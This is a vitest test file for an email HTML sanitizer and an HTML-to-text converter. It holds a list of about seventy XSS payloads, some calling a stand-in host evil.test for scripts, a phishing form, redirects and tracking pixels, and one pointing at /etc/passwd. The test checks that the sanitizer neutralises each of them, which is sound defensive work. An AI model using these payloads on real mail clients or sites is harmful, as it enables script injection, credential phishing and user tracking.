import { Window } from 'happy-dom';
import { describe, expect, it } from 'vitest';
import { htmlToText, textToHtml } from '#channels/email/html-text.ts';
import { sanitizeMail } from '#channels/email/sanitize.ts';

const clean = (html: string) => sanitizeMail(html, (cid) => (cid === 'logo' ? 'nonce-0' : null));

/** What a browser could run, load or be led astray by, in HTML that was cleaned; empty when there is none. */
function dangers(html: string): string[] {
  const { document } = new Window();
  document.body.innerHTML = html;
  const found: string[] = [];
  for (const element of document.body.querySelectorAll('*')) {
    const tag = element.tagName.toLowerCase();
    if (
      /^(script|style|iframe|object|embed|link|meta|base|form|input|svg|math|template|frame|video|audio)$/.test(tag)
    ) {
      found.push(tag);
    }
    for (const { name, value } of element.attributes) {
      const plain = (value ?? '').replace(/[\s\p{Cc}]/gu, '').toLowerCase();
      if (name.startsWith('on') || name === 'srcdoc' || name === 'id' || name === 'class') found.push(name);
      if (/^(javascript|vbscript|file|blob):/.test(plain)) found.push(`${name}=${plain}`);
      if (plain.startsWith('data:') && !/^data:image\/(png|jpeg|gif|webp);base64,/.test(plain)) found.push(plain);
      if (name === 'style' && /url\(|expression|import|behavior|position|@/.test(plain)) found.push(plain);
      if (name === 'src' && !/^(cid:nonce-0|data:image)/.test(plain)) found.push(`src=${plain}`);
    }
  }
  return found;
}

const hostile = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<SCRIPT SRC=http://evil.test/x.js></SCRIPT>',
  '<script/x>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x"onerror="alert(1)">',
  '<img/src/onerror=alert(1)>',
  '<img src=1 onload=alert(1) ONERROR=alert(2)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math><mi//xlink:href="data:x,<script>alert(4)</script>">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="//evil.test/x" onclick="alert(1)">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="blob:https://x.test/1">x</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="//evil.test/x.swf">',
  '<form action="https://evil.test"><input name=senha><button formaction="javascript:alert(1)">x</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.test">',
  '<base href="https://evil.test/">',
  '<link rel=stylesheet href="https://evil.test/x.css">',
  '<style>@import url(https://evil.test/x.css); body{background:url(https://evil.test/x)}</style>',
  '<p style="background:url(https://evil.test/x)">x</p>',
  '<p style="background-image:url(javascript:alert(1))">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="behavior:url(x.htc)">x</p>',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9">x</p>',
  '<p style="color:\\75\\72\\6c(https://evil.test/x)">x</p>',
  '<table background="https://evil.test/x"><tr><td background="javascript:alert(1)">x</td></tr></table>',
  '<video src="https://evil.test/x" onerror=alert(1)><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>x',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<select autofocus onfocus=alert(1)><option>x</option></select>',
  '<textarea autofocus onfocus=alert(1)></textarea>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<p title="</p><script>alert(1)</script>">x</p>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<template><script>alert(1)</script></template>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<img src="https://evil.test/pixel.gif?quem=ana">',
  '<img src="//evil.test/pixel.gif">',
  '<img srcset="https://evil.test/a 1x" src="cid:logo">',
  '<img src="cid:nao-existe">',
  '<img data-remote="javascript:alert(1)" src="x">',
  '<a href="https://x.test" target="_top" rel="opener">x</a>',
  '<div id="app" class="modal" onmouseover=alert(1)>x</div>',
  '<p lang="x" dir="rtl" onfocus=alert(1) tabindex=1>x</p>',
  '<a\u0000href="javascript:alert(1)">x</a>',
  '<p/onclick=alert(1)//>x',
  '<<img src=x onerror=alert(1)>',
  '<img src=`x`onerror=alert(1)>',
];

describe('HTML of mails', () => {
  it.each(hostile)('takes the sting out of %s', (html) => {
    expect(dangers(clean(html))).toEqual([]);
    // Cleaning again changes nothing more: what came out is what was meant.
    expect(dangers(sanitizeMail(clean(html), () => 'nonce-0'))).toEqual([]);
  });
  it('sees dangers where there are some', () => {
    const alive = hostile.filter((html) => dangers(html).length > 0);
    expect(alive.length).toBeGreaterThan(hostile.length * 0.7);
  });
  it('opens links apart, without telling where from', () => {
    expect(clean('<a href="https://x.test/a?b=1&amp;c=2" target=_self rel=opener title=t>x</a>')).toBe(
      '<a href="https://x.test/a?b=1&amp;c=2" title="t" rel="noopener noreferrer" target="_blank">x</a>',
    );
    expect(clean('<a href="mailto:a@b.test">x</a><a href="tel:+55">y</a>')).toContain('href="mailto:a@b.test"');
  });
  it('keeps pictures elsewhere from being loaded, and remembers where they are', () => {
    expect(clean('<img src="https://x.test/a.png" alt="a" width="10">')).toBe(
      '<img alt="a" width="10" data-remote="https://x.test/a.png" />',
    );
  });
  it('names pictures of the mail, and keeps small ones that it carries', () => {
    expect(clean('<img src="cid:logo">')).toBe('<img src="cid:nonce-0" />');
    expect(clean('<img src="data:image/png;base64,AAAA">')).toBe('<img src="data:image/png;base64,AAAA" />');
  });
  it('keeps what makes a letter readable', () => {
    const letter =
      '<table width="100%"><tr><td align="right" style="color:#ff0000;padding:4px 8px"><b>Total</b></td></tr></table>';
    expect(clean(letter)).toBe(letter.replace('color:#ff0000;padding:4px 8px', 'color:#ff0000;padding:4px 8px'));
    expect(clean('<blockquote>x</blockquote><h1>y</h1><pre>z</pre>')).toBe(
      '<blockquote>x</blockquote><h1>y</h1><pre>z</pre>',
    );
  });
});

describe('text of HTML', () => {
  it.each([
    ['<div>um<br>dois</div><div>tr&ecirc;s</div>', 'um\ndois\ntrês'],
    ['<p>um</p><p>dois</p>', 'um\n\ndois'],
    ['<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>', 'a b\nc'],
    ['<blockquote>um<blockquote>dois</blockquote></blockquote>três', '> um\n>\n> > dois\n\ntrês'],
    ['<pre>a\n  b</pre>', 'a\n  b'],
    ['a&nbsp;b &lt;c&gt; &#233; &bogus;', 'a b <c> é &bogus;'],
    ['<p> muito \n  espaço </p>', 'muito espaço'],
  ])('%s', (html, text) => {
    expect(htmlToText(clean(html))).toBe(text);
  });
  it('shows text as it is', () => {
    const text = '<b>"x" & \'y\'\n\n</b>';
    expect(htmlToText(clean(textToHtml(text)))).toBe(text);
  });
});
